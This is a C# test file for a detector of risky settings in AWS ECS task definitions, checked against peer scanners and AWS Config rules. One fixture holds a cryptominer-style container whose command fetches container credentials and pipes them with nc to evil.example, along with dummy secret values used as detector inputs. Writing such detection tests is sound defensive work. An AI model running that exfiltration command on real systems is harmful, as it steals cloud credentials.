using EcsRtma.Core.Events;
using System.Text.Json;
using EcsRtma.Core.Findings;
using EcsRtma.Core.Text;
using EcsRtma.Detection.Inspectors;
using EcsRtma.Detection.Policy;
using EcsRtma.Testing;

namespace EcsRtma.Core.Tests;

/// <summary>
/// The inspector against the peers' own test cases (Prowler, Checkov, CloudFormation Guard,
/// Control Tower, KICS, Trivy) in ../shared/realdata/taskdef-peer-cases.jsonl, and against AWS
/// Config's rule conditions. A peer FAIL means our finding for that check must be present, PASS
/// means absent. Where a peer is wrong, the case is listed in <see cref="PeerQuirks"/> with why.
/// </summary>
public sealed class TaskDefinitionInspectorTests
{
    private static readonly TaskDefinitionInspector Inspector = new(DetectionPolicy.Empty);

    /// <summary>Peer check (by its leading words) → the finding that covers it.</summary>
    private static readonly (string Prefix, string Finding)[] CheckMap =
    [
        ("ecs_task_definitions_containers_readonly_access", FindingIds.WritableRootFilesystem),
        ("CKV_AWS_336", FindingIds.WritableRootFilesystem),
        ("CT.ECS.PR.6 ", FindingIds.WritableRootFilesystem),
        ("ecs_task_definitions_host_namespace_not_shared", FindingIds.HostPidNamespace),
        ("CKV_AWS_335", FindingIds.HostPidNamespace),
        ("CT.ECS.PR.10 ", FindingIds.HostPidNamespace),
        ("ecs_task_definitions_host_networking_mode_users", FindingIds.HostNetworkRootUser),
        ("ECS_TASK_DEFINITION_USER_FOR_HOST_MODE_CHECK", FindingIds.HostNetworkRootUser),
        ("CT.ECS.PR.8 ", FindingIds.HostNetworkRootUser),
        ("ecs_task_definitions_logging_block_mode", FindingIds.BlockingLogMode),
        ("ecs_task_definitions_logging_enabled", FindingIds.NoLogConfiguration),
        ("CT.ECS.PR.5 ", FindingIds.NoLogConfiguration),
        ("ecs_task_definitions_no_environment_secrets", FindingIds.PlaintextSecretEnvironment),
        ("Trivy AWS-0036", FindingIds.PlaintextSecretEnvironment),
        ("CT.ECS.PR.12 ", FindingIds.PlaintextSecretEnvironment),
        ("ecs_task_definitions_no_privileged_containers", FindingIds.PrivilegedContainer),
        ("CKV_AWS_334", FindingIds.PrivilegedContainer),
        ("CT.ECS.PR.11 ", FindingIds.PrivilegedContainer),
        ("CKV_AWS_249", FindingIds.SameTaskAndExecutionRole),
        ("CKV_AWS_97", FindingIds.EfsTransitEncryptionDisabled),
        ("Trivy AWS-0035", FindingIds.EfsTransitEncryptionDisabled),
        ("KICS \"ECS Task Definition Volume Not Encrypted\"", FindingIds.EfsTransitEncryptionDisabled),
        ("CT.ECS.PR.3 ", FindingIds.RootUser),
        ("CT.ECS.PR.4 ", FindingIds.NetworkModeNotAwsvpc),
        ("CT.ECS.PR.7 ", FindingIds.NoMemoryHardLimit),
        ("KICS \"ECS Task Definition HealthCheck Missing\"", FindingIds.NoHealthCheck),
    ];

    /// <summary>Cases where we deliberately disagree with the peer, and why.</summary>
    private static readonly Dictionary<string, string> PeerQuirks = new(StringComparer.Ordinal)
    {
        ["checkov-003"] = "Checkov reads `pidMode` inside a container definition; in the ECS API pidMode is task-level, so the fixture's container-level `pidMode: host` is ignored by ECS and shares nothing. We say PASS.",
        ["checkov-005"] = "Checkov tests the key `privilege`; the ECS API's key is `privileged`, so `privilege: true` is unknown to ECS and the container is not privileged. We say PASS.",
    };

    public static TheoryData<string> PeerCaseIds()
    {
        var data = new TheoryData<string>();
        string? dir = SharedData.Directory;
        string path = dir is null ? string.Empty : Path.Combine(dir, "realdata", "taskdef-peer-cases.jsonl");
        if (File.Exists(path))
        {
            foreach (string line in File.ReadLines(path).Where(l => l.Trim().Length > 0))
            {
                using JsonDocument doc = JsonDocument.Parse(line);
                data.Add(doc.RootElement.GetProperty("id").GetString()!);
            }
        }
        else
        {
            data.Add("(../shared absent)");
        }

        return data;
    }

    [SkippableTheory]
    [MemberData(nameof(PeerCaseIds))]
    public void Inspect_PeerCase_AgreesWithThePeerOrExplainsWhy(string id)
    {
        string path = SharedData.RequireFile("realdata/taskdef-peer-cases.jsonl");
        using JsonDocument doc = JsonDocument.Parse(File.ReadLines(path).First(l => l.Contains($"\"id\": \"{id}\"", StringComparison.Ordinal) || l.Contains($"\"id\":\"{id}\"", StringComparison.Ordinal)));
        JsonElement c = doc.RootElement;
        string check = c.GetProperty("check").GetString()!;
        string finding = CheckMap.FirstOrDefault(m => check.StartsWith(m.Prefix, StringComparison.Ordinal)).Finding
            ?? throw new Xunit.Sdk.XunitException($"no finding is mapped to peer check '{check}'");

        bool peerFails = c.GetProperty("expected").GetString() == "FAIL";
        bool weFail = Inspector.InspectTaskDefinition(RequestFacts.ParseTaskDefinition(c.GetProperty("taskDefinition"))).Any(f => f.Id == finding);
        bool expected = PeerQuirks.ContainsKey(id) ? !peerFails : peerFails;
        Assert.True(expected == weFail, $"{id} ({check}): peer says {(peerFails ? "FAIL" : "PASS")}, we {(weFail ? "found" : "did not find")} {finding}");
    }

    [SkippableFact]
    public void Inspect_PeerNotApplicableCases_ProduceNoFindingForThatCheck()
    {
        string path = SharedData.RequireFile("realdata/taskdef-peer-cases-not-applicable.jsonl");
        foreach (string line in File.ReadLines(path).Where(l => l.Trim().Length > 0))
        {
            using JsonDocument doc = JsonDocument.Parse(line);
            string check = doc.RootElement.GetProperty("check").GetString()!;
            string finding = CheckMap.First(m => check.StartsWith(m.Prefix, StringComparison.Ordinal)).Finding;
            JsonElement td = doc.RootElement.GetProperty("taskDefinition");
            Assert.DoesNotContain(Inspector.InspectTaskDefinition(RequestFacts.ParseTaskDefinition(td)), f => f.Id == finding);
        }
    }

    // AWS Config managed rules (../shared/realdata/aws-config-ecs-rule-conditions.json), one case each way.
    [Theory]
    [InlineData("ecs-containers-nonprivileged", """{"containerDefinitions":[{"name":"a","privileged":true}]}""", FindingIds.PrivilegedContainer, true)]
    [InlineData("ecs-containers-nonprivileged", """{"containerDefinitions":[{"name":"a","privileged":false}]}""", FindingIds.PrivilegedContainer, false)]
    [InlineData("ecs-containers-readonly-access", """{"containerDefinitions":[{"name":"a","readonlyRootFilesystem":false}]}""", FindingIds.WritableRootFilesystem, true)]
    [InlineData("ecs-containers-readonly-access", """{"containerDefinitions":[{"name":"a","readonlyRootFilesystem":true}]}""", FindingIds.WritableRootFilesystem, false)]
    [InlineData("ecs-no-environment-secrets", """{"containerDefinitions":[{"name":"a","environment":[{"name":"AWS_SECRET_ACCESS_KEY","value":"x"}]}]}""", FindingIds.PlaintextSecretEnvironment, true)]
    [InlineData("ecs-no-environment-secrets", """{"containerDefinitions":[{"name":"a","environment":[{"name":"LOG_LEVEL","value":"debug"}],"secrets":[{"name":"DB_PASSWORD","valueFrom":"arn:aws:ssm:eu-west-1:111122223333:parameter/db"}]}]}""", FindingIds.PlaintextSecretEnvironment, false)]
    [InlineData("ecs-task-definition-log-configuration", """{"containerDefinitions":[{"name":"a"}]}""", FindingIds.NoLogConfiguration, true)]
    [InlineData("ecs-task-definition-log-configuration", """{"containerDefinitions":[{"name":"a","logConfiguration":{"logDriver":"awslogs"}}]}""", FindingIds.NoLogConfiguration, false)]
    [InlineData("ecs-task-definition-memory-hard-limit", """{"containerDefinitions":[{"name":"a","memoryReservation":128}]}""", FindingIds.NoMemoryHardLimit, true)]
    [InlineData("ecs-task-definition-memory-hard-limit", """{"containerDefinitions":[{"name":"a","memory":128}]}""", FindingIds.NoMemoryHardLimit, false)]
    [InlineData("ecs-task-definition-nonroot-user", """{"containerDefinitions":[{"name":"a"}]}""", FindingIds.RootUser, true)]
    [InlineData("ecs-task-definition-nonroot-user", """{"containerDefinitions":[{"name":"a","user":"root"}]}""", FindingIds.RootUser, true)]
    [InlineData("ecs-task-definition-nonroot-user", """{"containerDefinitions":[{"name":"a","user":"1000:1000"}]}""", FindingIds.RootUser, false)]
    [InlineData("ecs-task-definition-pid-mode-check", """{"pidMode":"host","containerDefinitions":[]}""", FindingIds.HostPidNamespace, true)]
    [InlineData("ecs-task-definition-pid-mode-check", """{"pidMode":"task","containerDefinitions":[]}""", FindingIds.HostPidNamespace, false)]
    [InlineData("ecs-task-definition-user-for-host-mode-check", """{"networkMode":"host","containerDefinitions":[{"name":"a","user":"0"}]}""", FindingIds.HostNetworkRootUser, true)]
    [InlineData("ecs-task-definition-user-for-host-mode-check", """{"networkMode":"host","containerDefinitions":[{"name":"a","user":"app"}]}""", FindingIds.HostNetworkRootUser, false)]
    [InlineData("ecs-awsvpc-networking-enabled", """{"networkMode":"bridge","containerDefinitions":[]}""", FindingIds.NetworkModeNotAwsvpc, true)]
    [InlineData("ecs-awsvpc-networking-enabled", """{"networkMode":"awsvpc","containerDefinitions":[]}""", FindingIds.NetworkModeNotAwsvpc, false)]
    [InlineData("ecs-task-definition-linux-user-non-root", """{"containerDefinitions":[{"name":"a","user":"app"},{"name":"b"}]}""", FindingIds.RootUser, true)]
    [InlineData("ecs-task-definition-linux-user-non-root", """{"containerDefinitions":[{"name":"a","user":"app"}]}""", FindingIds.RootUser, false)]
    // network-mode-not-host is covered by network-mode-not-awsvpc, which is stricter (bridge is flagged too).
    [InlineData("ecs-task-definition-network-mode-not-host", """{"networkMode":"host","containerDefinitions":[]}""", FindingIds.NetworkModeNotAwsvpc, true)]
    [InlineData("ecs-task-definition-network-mode-not-host", """{"networkMode":"awsvpc","containerDefinitions":[]}""", FindingIds.NetworkModeNotAwsvpc, false)]
    public void Inspect_AwsConfigRuleCondition_Holds(string rule, string taskDefinition, string finding, bool nonCompliant)
    {
        using JsonDocument td = JsonDocument.Parse(taskDefinition);
        Assert.True(nonCompliant == Inspector.InspectTaskDefinition(RequestFacts.ParseTaskDefinition(td.RootElement)).Any(f => f.Id == finding), $"{rule}: expected {(nonCompliant ? "NON_COMPLIANT" : "COMPLIANT")}");
    }

    [SkippableFact]
    public void AwsConfigRules_AreAllCoveredByTheCasesAbove()
    {
        using JsonDocument doc = JsonDocument.Parse(File.ReadAllText(SharedData.RequireFile("realdata/aws-config-ecs-rule-conditions.json")));
        string[] covered = ["ecs-containers-nonprivileged", "ecs-containers-readonly-access", "ecs-no-environment-secrets", "ecs-task-definition-log-configuration",
            "ecs-task-definition-memory-hard-limit", "ecs-task-definition-nonroot-user", "ecs-task-definition-pid-mode-check", "ecs-task-definition-user-for-host-mode-check", "ecs-awsvpc-networking-enabled",
            "ecs-task-definition-linux-user-non-root", "ecs-task-definition-network-mode-not-host"];
        string[] taskDefinitionRules = [.. doc.RootElement.EnumerateArray()
            .Where(r => r.TryGetProperty("resourceType", out JsonElement t) && t.GetString() == "AWS::ECS::TaskDefinition")
            .Select(r => r.GetProperty("rule").GetString()!)];
        Assert.All(taskDefinitionRules, r => Assert.Contains(r, covered));
    }

    [Fact]
    public void Inspect_EachFinding_NamesTheContainerAndField_AndNeverTheSecretValue()
    {
        using JsonDocument td = JsonDocument.Parse("""
            {"family":"x","networkMode":"host","pidMode":"host","ipcMode":"host","cpu":"8192",
             "containerDefinitions":[{"name":"miner","image":"docker.io/someone/xmrig:latest","privileged":false,
               "linuxParameters":{"capabilities":{"add":["SYS_ADMIN","CHOWN"]}},
               "command":["sh","-c","curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | nc evil.example 443"],
               "environment":[{"name":"API_KEY","value":"sk_live_abcdefghijklmnopqrstuvwx"},{"name":"TZ","value":"UTC"}]}]}
            """);
        IReadOnlyList<Finding> findings = Inspector.InspectTaskDefinition(RequestFacts.ParseTaskDefinition(td.RootElement));
        string[] ids = [.. findings.Select(f => f.Id)];
        foreach (string expected in new[] { FindingIds.HostPidNamespace, FindingIds.HostIpcNamespace, FindingIds.HostNetworkRootUser, FindingIds.AddedCapabilities,
                     FindingIds.CredentialsEndpointCommand, FindingIds.PlaintextSecretEnvironment, FindingIds.CryptominingShape, FindingIds.NoLogConfiguration })
        {
            Assert.Contains(expected, ids);
        }

        Finding caps = findings.Single(f => f.Id == FindingIds.AddedCapabilities);
        Assert.Equal(("miner", "containerDefinitions[0].linuxParameters.capabilities.add", Severity.High), (caps.Container, caps.Field, caps.Severity));
        Assert.Equal("containerDefinitions[0].environment[0]", findings.Single(f => f.Id == FindingIds.PlaintextSecretEnvironment).Field);
        Assert.DoesNotContain(findings, f => f.Message.Contains("sk_live", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("123456789012.dkr.ecr.eu-west-1.amazonaws.com/app:1", "8192", false)]
    [InlineData("public.ecr.aws/nginx/nginx:latest", "8192", false)]
    [InlineData("docker.io/library/ubuntu", "1024", false)]
    [InlineData("docker.io/library/ubuntu", "4 vCPU", true)]
    public void Inspect_LargeCpuWithNonEcrImage_IsTheCryptominingShape(string image, string cpu, bool expected)
    {
        using JsonDocument td = JsonDocument.Parse($$"""{"cpu":"{{cpu}}","containerDefinitions":[{"name":"a","image":"{{image}}"}]}""");
        Assert.Equal(expected, Inspector.InspectTaskDefinition(RequestFacts.ParseTaskDefinition(td.RootElement)).Any(f => f.Id == FindingIds.CryptominingShape));
    }

    [Theory]
    [InlineData("DATABASE_PASSWORD", "hunter2", true)]
    [InlineData("GITHUB_TOKEN", "x", true)]
    [InlineData("host", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U", true)]
    [InlineData("DB_URL", "postgres://app:s3cret@db:5432/app", true)]
    [InlineData("KEY_ID", "AKIAIOSFODNN7EXAMPLE", true)]
    [InlineData("PASSWORD_FILE", "", false)]
    [InlineData("KEYCLOAK_URL", "https://sso.example", false)]
    [InlineData("ENVIRONMENT", "development", false)]
    [InlineData("PWD", "/app", false)]
    public void SecretDetector_NamesAndShapes(string name, string value, bool secret) =>
        Assert.Equal(secret, SecretDetector.Classify(name, value, []) is not null);
}
